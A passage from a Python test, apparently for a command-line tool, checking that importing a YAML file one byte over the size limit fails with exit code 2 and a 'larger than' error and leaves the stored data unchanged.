    path = tmp_path / "large.yaml"
    with path.open("wb") as file:
        file.truncate(MAX_FILE_BYTES + 1)
    before = store_state(seeded)
    ran = invoke("import", str(path), store=seeded)
    assert ran.code == 2
    assert "larger than" in one_line_error(ran.err)
    assert store_state(seeded) == before
